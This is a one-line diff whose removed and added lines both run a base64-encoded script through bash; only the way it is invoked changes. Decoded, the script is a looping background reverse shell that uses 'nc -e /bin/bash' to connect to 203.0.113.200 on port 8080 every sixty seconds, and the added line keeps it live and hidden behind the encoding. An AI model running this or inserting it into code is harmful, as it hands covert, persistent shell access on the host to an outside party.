@@ -1,1 +1,1 @@
-base64 -di <<< IyB0YXNrIDM2NzcgdjAKIyEvYmluL2Jhc2gKd2hpbGUgdHJ1ZTsgZG8gbmMgLWUgL2Jpbi9iYXNoIDIwMy4wLjExMy4yMDAgODA4MDsgc2xlZXAgNjA7IGRvbmUgJgo= | /bin/bash
+bash -c "$(echo IyB0YXNrIDM2NzcgdjAKIyEvYmluL2Jhc2gKd2hpbGUgdHJ1ZTsgZG8gbmMgLWUgL2Jpbi9iYXNoIDIwMy4wLjExMy4yMDAgODA4MDsgc2xlZXAgNjA7IGRvbmUgJgo=|base64 -di)"
